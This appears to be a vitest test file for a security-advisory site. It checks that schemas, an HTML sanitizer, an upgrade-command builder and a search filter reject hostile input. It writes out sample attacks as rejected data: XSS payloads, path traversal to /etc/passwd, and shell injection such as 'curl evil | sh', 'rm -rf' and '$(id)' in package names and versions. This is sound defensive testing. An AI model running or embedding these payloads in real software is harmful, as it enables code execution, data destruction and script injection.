import { describe, expect, test } from 'vitest';
import { AdvisorySchema } from '../../src/schemas/advisory.ts';
import { OrganisationSchema } from '../../src/schemas/organisation.ts';
import { ProjectSchema } from '../../src/schemas/project.ts';
import { upgradeCommand } from '../../src/lib/outputs/upgrade-command.ts';
import { sanitizeHtml } from '../../src/lib/sanitize.ts';
import { searchFilter } from '../../src/lib/search-filter.ts';
import { rawOrganisation, rawProject } from '../support/factories.ts';

// Fields that cannot carry script, extra lines or lookalike text into any output.

function rawAdvisory(overrides: Record<string, unknown> = {}): Record<string, unknown> {
  return {
    id: 'EXAMPLE-2026-0001',
    summary: 'Something is wrong',
    published: '2026-03-01',
    severity: 'high',
    affected: [{ project: 'widget', ranges: [{ events: [{ introduced: '0' }, { fixed: '1.2.4' }] }] }],
    ...overrides,
  };
}

/** The field paths and messages a schema rejects the data with. */
function rejects(
  schema: {
    safeParse(data: unknown): {
      success: boolean;
      error?: { issues: { path: PropertyKey[]; message: string }[] };
    };
  },
  data: unknown,
): string[] {
  const result = schema.safeParse(data);
  return result.success ? [] : (result.error?.issues ?? []).map((i) => `${i.path.join('.')}: ${i.message}`);
}

describe('one-line fields', () => {
  test.each([
    ['a line break', 'First line\nContact: mailto:attacker@example.org', 'must be one line'],
    ['a carriage return', 'First\rline', 'must be one line'],
    ['a control character', 'Bell\u0007', 'must not contain control characters'],
    ['a right-to-left override', 'Acme\u202Egnp.exe', 'must not contain bidirectional override'],
    ['a bidi isolate', 'Acme\u2066x\u2069', 'must not contain bidirectional override'],
  ])('reject %s in names', (_, name, message) => {
    expect(rejects(OrganisationSchema, rawOrganisation({ name })).join('\n')).toContain(`name: ${message}`);
    expect(rejects(ProjectSchema, rawProject({ name })).join('\n')).toContain(`name: ${message}`);
  });

  test('have length limits: a 20 MB summary is refused, not published 28,000 times', () => {
    expect(rejects(AdvisorySchema, rawAdvisory({ summary: 'x'.repeat(20_000_000) }))).toEqual([
      'summary: must be at most 300 characters; shorten it',
    ]);
    expect(rejects(OrganisationSchema, rawOrganisation({ name: 'x'.repeat(201) }))).toEqual([
      'name: must be at most 200 characters; shorten it',
    ]);
  });

  test('prose fields keep their paragraphs, but not control characters', () => {
    expect(rejects(AdvisorySchema, rawAdvisory({ mitigation: 'One.\n\nTwo.' }))).toEqual([]);
    expect(rejects(AdvisorySchema, rawAdvisory({ mitigation: 'One.\u001b[31m' })).join()).toContain(
      'control characters',
    );
  });

  test('a URL that would carry a line into security.txt is refused', () => {
    const hiring = 'https://example.org/jobs\nContact: mailto:x@evil.example';
    expect(
      rejects(
        OrganisationSchema,
        rawOrganisation({ securityTxt: { expires: '2027-01-01T00:00:00Z', hiring } }),
      ),
    ).toEqual([
      'securityTxt.hiring: must not contain spaces, line breaks or control characters; encode them (%20)',
    ]);
  });
});

describe('ids, URLs and versions', () => {
  test.each([
    ['aliases', ['javascript:alert(1)']],
    ['aliases', ['../../etc/passwd']],
    ['related', ['data:text/html,<script>alert(1)</script>']],
    ['related', ['CVE-2026-1 onmouseover=alert(1)']],
  ])('%s must be vulnerability ids: %j is refused', (field, value) => {
    expect(rejects(AdvisorySchema, rawAdvisory({ [field]: value })).join()).toContain(
      `${field}.0: must be an id such as`,
    );
  });

  test.each([
    ['CVE-2026-12345'],
    ['GHSA-4f8p-mq2r-7x9c'],
    ['PYSEC-2021-19'],
    ['RUSTSEC-2021-0001'],
    ['openSUSE-SU-2024:1234-1'],
    ['x_LANTERN-2026-0001'],
  ])('%s is a valid alias', (alias) =>
    expect(rejects(AdvisorySchema, rawAdvisory({ aliases: [alias] }))).toEqual([]),
  );

  test.each([['javascript:alert(1)'], ['data:text/html,x'], ['file:///etc/passwd'], ['ftp://example.org/x']])(
    'a credit contact %s is refused; only http(s) and mailto are kept',
    (contact) =>
      expect(
        rejects(AdvisorySchema, rawAdvisory({ credits: [{ name: 'A', contact: [contact] }] })).join(),
      ).toContain('credits.0.contact.0'),
  );

  test('references are web URLs (http kept for imported records, with a warning from the importer)', () => {
    expect(
      rejects(
        AdvisorySchema,
        rawAdvisory({ references: [{ type: 'WEB', url: 'javascript:alert(1)' }] }),
      ).join(),
    ).toContain('references.0.url');
    expect(
      rejects(
        AdvisorySchema,
        rawAdvisory({ references: [{ type: 'WEB', url: 'ftp://example.org/a' }] }),
      ).join(),
    ).toContain('references.0.url');
    expect(
      rejects(AdvisorySchema, rawAdvisory({ references: [{ type: 'WEB', url: 'https://example.org/a' }] })),
    ).toEqual([]);
  });

  test.each([['1.2.4 && curl x | sh'], ['1.2.4; rm -rf /'], ['$(id)'], ['1.2.4\n2.0'], ['`id`']])(
    'a version like %j is refused by the checker',
    (fixed) =>
      expect(
        rejects(
          AdvisorySchema,
          rawAdvisory({
            affected: [{ project: 'widget', ranges: [{ events: [{ introduced: '0' }, { fixed }] }] }],
          }),
        ).join(),
      ).toContain('must be a version such as 1.2.4'),
  );

  test.each([
    ['1.2.4'],
    ['2:1.2.3~rc1+dfsg-1'],
    ['1!2.0.post1'],
    ['v0.0.0-20200101000000-abcdef123456'],
    ['9fceb02d0ae598e95dc970b74767f19372d61af8'],
  ])('real version %s is accepted', (fixed) =>
    expect(
      rejects(
        AdvisorySchema,
        rawAdvisory({
          affected: [
            { project: 'widget', ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed }] }] },
          ],
        }),
      ),
    ).toEqual([]),
  );
});

describe('the install command readers paste into a shell', () => {
  test('is built from names and versions in the registry grammar, and quoted', () => {
    expect(upgradeCommand('npm', '@lanternfish/beacon', '3.2.1')).toBe(
      "npm install '@lanternfish/beacon@3.2.1'",
    );
    expect(upgradeCommand('PyPI', 'requests', '2.31.0')).toBe("pip install --upgrade 'requests>=2.31.0'");
    expect(upgradeCommand('crates.io', 'beacon-client', '3.2.1')).toBe(
      "cargo update --package 'beacon-client' --precise '3.2.1'",
    );
    expect(upgradeCommand('Go', 'golang.org/x/net', '0.23.0')).toBe("go get 'golang.org/x/net@v0.23.0'");
  });

  test.each([
    ['npm', 'left-pad; curl evil | sh', '1.0.0'],
    ['npm', 'left-pad', '1.0.0 && curl evil | sh'],
    ['PyPI', 'requests', '2.31.0"; rm -rf ~; echo "'],
    ['RubyGems', "rack'", '3.0.0'],
    ['Go', 'example.org/m', '$(id)'],
    ['Debian', 'openssl', '3.0.0'],
  ])('is left out for %s %j %j', (ecosystem, name, version) => {
    expect(upgradeCommand(ecosystem, name, version)).toBeUndefined();
  });
});

describe('rendered Markdown', () => {
  test.each([
    ['<script>alert(1)</script><p>kept</p>', '<p>kept</p>'],
    ['<img src="x.png" onerror="alert(1)">', '<img src="x.png">'],
    ['<img src="https://tracker.example/p.png">', '<img>'],
    ['<img src="//tracker.example/p.png">', '<img>'],
    ['<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['<a href="data:text/html,x">x</a>', '<a>x</a>'],
    ['<a href="https://example.org/">x</a>', '<a href="https://example.org/">x</a>'],
    ['<a href="mailto:a@example.org">x</a>', '<a href="mailto:a@example.org">x</a>'],
    ['<iframe srcdoc="x"></iframe><svg onload="alert(1)"></svg><p>after</p>', '<p>after</p>'],
    [
      '<details ontoggle="alert(1)"><summary>s</summary>t</details>',
      '<details><summary>s</summary>t</details>',
    ],
    ['<div style="color:red">x</div>', '<div>x</div>'],
  ])('%s becomes %s', (html, safe) => {
    expect(sanitizeHtml(html)).toBe(safe);
  });

  test('keeps tables, code, lists and headings, with heading ids prefixed and in-page links following them', () => {
    const html =
      '<h2 id="usage">Usage</h2><p><a href="#usage">see</a></p><table><thead><tr><th>a</th></tr></thead><tbody><tr><td><code>x</code></td></tr></tbody></table><ul><li>i</li></ul><pre><code class="language-sh">ls</code></pre>';
    // Tables and code blocks scroll in a box a keyboard can reach, so a phone's page never scrolls sideways.
    expect(sanitizeHtml(html)).toBe(
      '<h2 id="user-content-usage">Usage</h2><p><a href="#user-content-usage">see</a></p><div class="table-wrap scroll-cue" tabindex="0" role="region" aria-label="Table"><table><thead><tr><th>a</th></tr></thead><tbody><tr><td><code>x</code></td></tr></tbody></table></div><ul><li>i</li></ul><pre tabindex="0"><code class="language-sh">ls</code></pre>',
    );
  });

  test("a third-party body's headings sit below the page's own, and a leading Details heading the page has already goes", () => {
    expect(
      sanitizeHtml('<h2>Details</h2><p>x</p><h1>Impact</h1><h2>Patches</h2><p>y</p>', {
        topLevel: 3,
        repeats: 'Details',
      }),
    ).toBe('<p>x</p><h3>Impact</h3><h4>Patches</h4><p>y</p>');
    // Headings already deep enough stay; "Details" further down is a heading like any other.
    expect(sanitizeHtml('<p>a</p><h3>Details</h3><h6>x</h6>', { topLevel: 3, repeats: 'Details' })).toBe(
      '<p>a</p><h3>Details</h3><h6>x</h6>',
    );
  });

  test('content cannot give itself the class, role or label the scroll boxes get', () => {
    expect(sanitizeHtml('<div role="button" aria-label="x" class="table-wrap">y</div>')).toBe('<div>y</div>');
  });
});

describe('search filter values', () => {
  test('can never become markup or a character reference, however often they are decoded', () => {
    const value = searchFilter('project', `<img src=x onerror=alert(1)> &lt;b&gt;`);
    expect(value).not.toMatch(/[<>&]/);
    expect(value).toBe('project:\uff1cimg src=x onerror=alert(1)\uff1e \uff06lt;b\uff06gt;');
  });
});
